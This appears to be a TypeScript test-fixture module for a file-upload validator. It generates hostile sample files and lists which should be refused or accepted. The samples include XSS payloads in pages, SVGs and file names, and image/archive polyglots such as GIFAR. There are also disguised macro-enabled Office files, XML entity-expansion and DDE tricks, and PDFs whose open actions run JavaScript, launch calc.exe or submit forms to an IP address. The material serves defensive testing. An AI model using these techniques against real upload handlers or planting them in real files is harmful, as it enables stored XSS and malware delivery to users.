import { activeFiles } from './active-files.ts'
import { hostileArchives } from './hostile-archives.ts'
import { oddZip } from './odd-zip.ts'
import { contents, ole, ooxml, opendocument } from './office-files.ts'
import { imageOf } from './pictures.ts'
import { writePdf } from './write-pdf.ts'

type Make = () => Buffer | Promise<Buffer>

/** The effect of the scripts in these files, so that a browser that runs one can be detected. */
export const canary = 'hostile-script-ran'
const script = `alert('${canary}');console.log('${canary}')`
const page = `<!doctype html><html><body><script>${script}</script><img src=x onerror="${script}"></body></html>`
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script></svg>`
const program = Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1')
const jar = oddZip([{ name: 'META-INF/MANIFEST.MF', bytes: 'Main-Class: A' }])
const png = () => imageOf('png', 40, 30)
const pdf = (content = '') => {
  const file = writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>',
  ])
  return Buffer.concat([file, Buffer.from(content)])
}

const endings =
  'svg html htm xhtml xml js mjs css swf hta lnk exe msi bat cmd ps1 docm xlsm pptm dotm jar php shtml xht mht url scr'

/** Files that are always refused, by name. */
export const refusedUploads: Record<string, Make> = {
  ...Object.fromEntries(
    endings.split(' ').map((ending) => [`a.${ending}`, () => Buffer.from(page)]),
  ),
  'seite.pdf.html': () => Buffer.from(page),
  'seite.pdf': () => Buffer.from(page),
  'seite.png': () => Buffer.from(page),
  'seite.odt': () => Buffer.from(page),
  'seite.dwg': () => Buffer.from(page),
  'seite.dxf': () => Buffer.from(page),
  'seite.step': () => Buffer.from(page),
  'seite.mp4': () => Buffer.from(page),
  'zeichnung.png': () => Buffer.from(drawing),
  'zeichnung.jpg': () => Buffer.from(drawing),
  'programm.pdf': () => program,
  'programm.docx': () => program,
  'programm.txt': () => program,
  'programm.dwg': () => program,
  'altes-word.docx': () => ole,
  'kopf vor der Seite.pdf': () => Buffer.from(`%PDF-1.7\n${page}`),
  'kopf vor der Zeichnung.pdf': () => Buffer.from(`%PDF-1.7\n${drawing}`),
  'kopf und Kommentar.pdf': () => Buffer.concat([Buffer.from(`%PDF-1.7\n%${page}\n`), pdf()]),
  'seite hinter der PDF.pdf': () => pdf(page),
  'seite in falschem Objekt.pdf': () => Buffer.from(`%PDF-1.7\n1 0 obj\n${page}`),
  // Files are inspected in blocks of 256 KiB.
  'seite auf der Kante.pdf': () =>
    Buffer.from(`%PDF-1.7\n${' '.repeat(256 * 1_024 - 12)}<script>${script}</script>`),
  'seite zwischen Objekten.pdf': () =>
    Buffer.from(`%PDF-1.7\n1 0 obj\n<< >>\nendobj\n${page}\n2 0 obj\n<< >>\nendobj\n`),
  'verspätet.pdf': () => Buffer.concat([Buffer.from('\n\n'), pdf()]),
  'archiv hinter der PDF.pdf': () => Buffer.concat([pdf(), jar]),
  'archiv mit Anhang hinter der PDF.pdf': () => Buffer.concat([pdf(), jar, Buffer.from('\n')]),
  'archiv hinter dem Bild.png': async () => Buffer.concat([await png(), jar]),
  'gifar.gif': async () => Buffer.concat([await imageOf('gif', 9, 9), jar]),
  'archiv hinter dem Foto.jpg': async () => Buffer.concat([await imageOf('jpeg', 9, 9), jar]),
  'archiv hinter dem Film.mp4': () =>
    Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), jar]),
  'zu viele Bildpunkte.png': async () => sized(await png(), 10_001, 10_000),
  'unlesbar große.png': async () => sized(await png(), 2_147_483_647, 2_147_483_647),
  'ohne Breite.png': async () => sized(await png(), 0, 10),
  'ohne Kopf.png': () => Buffer.from('89504e470d0a1a0a0000000049444154', 'hex'),
  'riesig.gif': () => Buffer.from(`GIF89a\xff\xff\xff\xff\0\0\0;`, 'latin1'),
  'ohne Rahmen.jpg': () => Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex'),
  'UTF-16.txt': () => Buffer.from('\ufeffHallo', 'utf16le'),
  'Steuerzeichen.txt': () => Buffer.from('a\x1b]0;x\x07b', 'latin1'),
  'kein Windows-1252.csv': () => Buffer.from('a;b\n\x81\xff;\x8d\n', 'latin1'),
  'umbenanntes docm.docx': () =>
    ooxml('docx', {}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
  'umbenanntes xlsm.xlsx': () =>
    ooxml('xlsx', {}, 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
  'umbenannte Vorlage.docx': () =>
    ooxml('docx', {}, 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
  'Arbeitsmappe.docx': () => ooxml('xlsx'),
  'Archiv.docx': () => oddZip([{ name: 'a.txt', bytes: 'a' }]),
  'kaputtes XML.docx': () => ooxml('docx', { 'word/document.xml': '<a><b></a>' }),
  'eigene Namen.docx': () =>
    ooxml('docx', { 'word/document.xml': '<!DOCTYPE a [<!ENTITY x "DDEAUTO">]><a>&x;</a>' }),
  'als Zeichnung getarnt.docx': () =>
    ooxml('docx', {
      'word/document.xml': '<!DOCTYPE svg [<!ENTITY x "DDE">]><document>&x;</document>',
    }),
  'fremde Kodierung.docx': () =>
    ooxml('docx', { 'word/document.xml': '<?xml version="1.0" encoding="IBM037"?><a/>' }),
  'verschlüsselt.odt': () =>
    opendocument('text', {
      'META-INF/manifest.xml': '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>',
    }),
  'Makros, getarnt als anderes Office.odt': () =>
    opendocument('text', {
      '[Content_Types].xml': '<Types/>',
      'Basic/Standard/Modul1.xml': '<script:module xmlns:script="s">Sub Main</script:module>',
    }),
  'Makros, getarnt im Archiv.zip': () =>
    oddZip([
      {
        name: 'a.odt',
        bytes: opendocument('text', {
          '[Content_Types].xml': '<Types/>',
          'Scripts/python/a.py': 'import os',
        }),
      },
    ]),
  'Milliardenlachen.odt': () =>
    opendocument('text', {
      'content.xml': `<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]>${contents('&b;').replace(/^<\?.*?\?>/, '')}`,
    }),
  ...hostileArchives,
}

/** Files that are accepted, as they are what they claim to be, although a browser might run their contents. */
export const takenUploads: Record<string, Make> = {
  'seite.txt': () => Buffer.from(page),
  'zeichnung.txt': () => Buffer.from(drawing),
  'seite.csv': () => Buffer.from(page),
  'skript.txt': () => Buffer.from(script),
  'utf-7.txt': () => Buffer.from(`+ADw-script+AD4-${script}+ADw-/script+AD4-`),
  '<img src=x onerror=alert(1)>.txt': () => Buffer.from('a'),
  '"><script>alert(1)<script>.pdf': () => pdf(),
  'seite im Kommentar.png': async () => withText(await png(), page),
  'seite im Kommentar.jpg': async () => withComment(await imageOf('jpeg', 40, 30), page),
  'zeichnung im Kommentar.jpg': async () => withComment(await imageOf('jpeg', 40, 30), drawing),
  'seite hinter dem Bild.png': async () => Buffer.concat([await png(), Buffer.from(page)]),
  'skript im Bild.gif': () => Buffer.from(`GIF89a/*\x01\0\0\0\0*/=1;${script};//`, 'latin1'),
  'seite im Bild.webp': async () =>
    Buffer.concat([await imageOf('webp', 40, 30), Buffer.from(page)]),
  'JavaScript.pdf': () => acting(`<< /S /JavaScript /JS (app.alert\\('${canary}'\\)) >>`),
  'Aufruf.pdf': () => acting('<< /S /Launch /F (calc.exe) >>'),
  'Adresse.pdf': () =>
    acting(`<< /S /URI /URI (javascript:${script.replaceAll(/[()]/g, '\\$&')}) >>`),
  'Formular.pdf': () => acting(`<< /S /SubmitForm /F (http://198.51.100.7/) >>`),
  'Notiz mit Gestaltung.pdf': () =>
    acting(`<< /RC (<body xmlns="x"><p>Bitte ändern</p></body>) >>`),
  'zerrissen.pdf': () => Buffer.from('%PDF-1.7 und Schluss'),
  'seite.zip': () =>
    oddZip([
      { name: 'index.html', bytes: page },
      { name: 'a.svg', bytes: drawing },
    ]),
  'schlicht.docx': () => ooxml('docx'),
  'Seite im Text.docx': () =>
    ooxml('docx', {
      'word/media/a.html': page
        .replace('<img src=x', '<img src="x"')
        .replace('">', '"/>')
        .replace('<!doctype html>', ''),
    }),
  'schlicht.odt': () => opendocument('text'),
  'seite im Modell.step': () => Buffer.from(`ISO-10303-21;\n/* ${page} */\nEND-ISO-10303-21;`),
  'seite im Plan.dxf': () => Buffer.from(`999\n${page}\n0\nSECTION\n`),
}

/** Number of all files: those that are refused, refused or marked, and accepted. */
export const hostileCount =
  Object.keys(refusedUploads).length + activeFiles.length + Object.keys(takenUploads).length

/** A PNG that claims another size than it has. */
function sized(bytes: Buffer, width: number, height: number): Buffer {
  const other = Buffer.from(bytes)
  other.writeUInt32BE(width, 16)
  other.writeUInt32BE(height, 20)
  return other
}

function withText(bytes: Buffer, text: string): Buffer {
  const content = Buffer.from(`Comment\0${text}`, 'latin1')
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length)
  // Before the last chunk; the checksum is not verified here.
  const end = bytes.length - 12
  const chunk = Buffer.concat([length, Buffer.from('tEXt'), content, Buffer.alloc(4)])
  return Buffer.concat([bytes.subarray(0, end), chunk, bytes.subarray(end)])
}

function withComment(bytes: Buffer, text: string): Buffer {
  const content = Buffer.from(text)
  const head = Buffer.from('fffe0000', 'hex')
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([bytes.subarray(0, 2), head, content, bytes.subarray(2)])
}

/** A PDF that performs this action when opened. */
function acting(action: string): Buffer {
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${action} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] >>',
  ])
}
